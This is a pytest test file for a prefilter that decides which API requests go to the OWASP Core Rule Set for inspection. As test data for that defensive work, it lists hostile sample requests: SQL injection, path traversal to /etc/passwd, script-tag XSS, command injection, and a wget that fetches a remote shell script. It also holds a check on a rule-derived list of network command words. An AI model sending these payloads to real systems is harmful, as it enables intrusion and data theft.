"""The prefilter in front of CRS: ordinary API requests skip CRS; anything a PL1 rule
could flag goes through, and the inspector then returns exactly what CRS alone finds.
(``bench/payloads.py`` measures the loss on the CRS regression cases: 0.)"""

from __future__ import annotations

from pathlib import Path

import pytest

from detectors.crs import API_METHODS, RULES_DIR, SETUP_FILE, CrsEngine
from detectors.payload.inspector import PayloadInspector
from detectors.payload.prefilter import Prefilter, policy_list
from detectors.payload.request import RebuiltRequest, rebuild
from detectors.payload.rule_words import finite_words, unix_commands
from tests.detectors.events import make_event

pytestmark = pytest.mark.skipif(
    not (RULES_DIR.is_dir() and SETUP_FILE.is_file()),
    reason="needs Debian's modsecurity-crs (make test installs it as root)",
)
BROWSER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0"


@pytest.fixture(scope="module")
def crs() -> CrsEngine:
    return CrsEngine.load(paranoia_level=1)


@pytest.fixture(scope="module")
def prefilter() -> Prefilter:
    return Prefilter.from_rules(RULES_DIR, paranoia_level=1, allowed_methods=API_METHODS)


def request(path: str = "/api/v1/products", query: str = "", **fields: object) -> RebuiltRequest:
    return rebuild(make_event(path=path, route=path, query=query, **fields))


ORDINARY = [
    request("/api/v1/orders/123456", "page=2&sort=price&limit=50"),
    request("/api/v1/search", "q=sunscreen+spf+50&page=3"),
    request("/api/v1/search", "q=running%20shoes"),
    request("/api/v1/partners/4100/orders", "status=open&since=2024-03-12T07:45:00Z"),
    request("/api/v1/users", "email=ann.lee%40example.com"),
    request("/api/v1/orders/3f2a9c1e-7b1d-4e77-9a51-0c3e2a9b1d4e"),
    request("/api/v1/cart/items/119559", method="DELETE"),
    request("/api/v1/cart", method="POST", body='{"sku": "AB-1234", "qty": 2, "gift": false}'),
    request("/api/v1/auth/login", method="POST", body="username=ann&password=fp:1a2b3c"),
    request("/api/v1/auth/login", method="POST", request_bytes=120),  # body not logged
]

SUSPICIOUS = [
    request("/api/v1/products", "q=1'%20OR%20'1'='1"),
    request("/api/v1/files", "name=../../etc/passwd"),
    request("/api/v1/search", "q=%3Cscript%3Ealert(1)%3C/script%3E"),
    request("/api/v1/ping", "host=127.0.0.1;id"),
    request("/api/v1/search", "q=wget+http://203.0.113.9/x.sh"),  # a command first
    request("/api/v1/search", "q=if+not+defined+x+echo+y"),  # Windows batch words
    request("/api/v1/search", "q=case+when+a+then+b"),  # SQL words libinjection reads
    request("/api/v1/search", "q=4294967296"),  # a magic number (942220)
    request("/api/v1/search", "q=tempdb"),  # a database name (942140)
    request("/api/v1/search", "q=5desc"),  # a statement glued to a number (942360)
    request("/api/v1/search", "foo=XyQkTkRfRlVOQyQkXwo="),  # base64 Node.js payload (934100)
    request("/.env"),
    request("/api/v1/backup.sql"),
    request("/api/v1/products", method="PROPFIND"),
    request("/api/v1/products", host="10.0.0.7"),  # numeric Host (920350)
    request("/api/v1/products", headers={"content-type": "text/plain"}, method="POST", body="x"),
    request("/api/v1/products", method="GET", body="a=b"),  # a body on GET
    request("/api/v1/cart", method="POST", body='{"sku": "1 union select password"}'),
]


@pytest.mark.parametrize("req", ORDINARY, ids=lambda r: f"{r.method} {r.uri}")
def test_ordinary_requests_skip_crs(prefilter: Prefilter, req: RebuiltRequest) -> None:
    assert not prefilter.suspicious(req)


@pytest.mark.parametrize("req", SUSPICIOUS, ids=lambda r: f"{r.method} {r.uri}")
def test_what_a_rule_could_flag_goes_to_crs(prefilter: Prefilter, req: RebuiltRequest) -> None:
    assert prefilter.suspicious(req)


def test_header_values_are_judged_by_what_they_hold(prefilter: Prefilter) -> None:
    assert not prefilter.suspicious_header("user-agent", "ShopApp/5.3.1 Android/14")
    assert prefilter.suspicious_header("user-agent", BROWSER)  # parentheses: CRS judges once
    assert prefilter.suspicious_header("user-agent", "sqlmap/1.7.2")  # a scanner's name
    assert prefilter.suspicious_header("referer", "javascript:alert(1)")
    assert prefilter.suspicious_header("x-anything", "")  # 920 rules judge empty headers
    assert prefilter.suspicious_header("accept-charset", "utf-8")  # restricted (920450)
    assert not prefilter.suspicious_header("cookie", "session=fp:0011aabb; theme=dark")
    assert prefilter.suspicious_header("cookie", "theme=dark'--")


def test_nothing_crs_flags_is_lost(crs: CrsEngine, prefilter: Prefilter) -> None:
    """Every suspicious sample CRS flags, the inspector flags too, with the same rules;
    ordinary requests skip CRS and CRS finds nothing in them either."""
    inspector = PayloadInspector(crs, prefilter)
    for req in SUSPICIOUS:
        alone = crs.inspect(req.method, req.uri, req.headers, req.body)
        assert {m.rule_id for m in inspector.inspect(req)} == {m.rule_id for m in alone}
    before = inspector.stats.crs
    for req in ORDINARY:
        assert inspector.inspect(req) == ()
        assert crs.inspect(req.method, req.uri, req.headers, req.body) == []
    assert inspector.stats.crs == before


def test_a_header_value_is_judged_once(crs: CrsEngine, prefilter: Prefilter) -> None:
    inspector = PayloadInspector(crs, prefilter)
    for i in range(5):
        assert inspector.inspect(request(f"/api/v1/orders/{i}", user_agent=BROWSER)) == ()
    assert inspector.stats.crs == 1  # the first request; the browser's UA is then known
    assert inspector.stats.cached == 4


def test_repeated_requests_reuse_the_verdict(crs: CrsEngine, prefilter: Prefilter) -> None:
    inspector = PayloadInspector(crs, prefilter)
    attack = request("/api/v1/search", "q=1'%20OR%20'1'='1")
    first = inspector.inspect(attack)
    assert first
    assert inspector.inspect(request("/api/v1/search", "q=1'%20OR%20'1'='1")) == first
    assert inspector.stats.crs == 1
    assert inspector.stats.cached == 1


def test_command_words_come_from_the_rule_itself() -> None:
    commands = unix_commands(RULES_DIR)
    assert commands is not None
    assert {"wget", "curl", "echo", "python", "nc"} <= commands
    assert "shoes" not in commands


def test_an_unreadable_rule_file_means_every_spaced_value_goes_to_crs(tmp_path: Path) -> None:
    assert unix_commands(tmp_path) is None
    blind = Prefilter(["select"], allowed_methods=API_METHODS, commands=None)
    assert blind.suspicious(request("/api/v1/search", "q=running+shoes"))


def test_finite_words_reads_a_literal_alternation() -> None:
    assert finite_words("(?:a(?:b|c)?|d[ef])") == frozenset({"a", "ab", "ac", "de", "df"})
    assert finite_words("[a-z]+x") == frozenset({""}) or finite_words("[a-z]+x") is None


def test_restricted_headers_are_read_from_the_rules() -> None:
    assert "accept-charset" in policy_list(RULES_DIR, "restricted_headers")
    assert ".bak" in policy_list(RULES_DIR, "restricted_extensions")
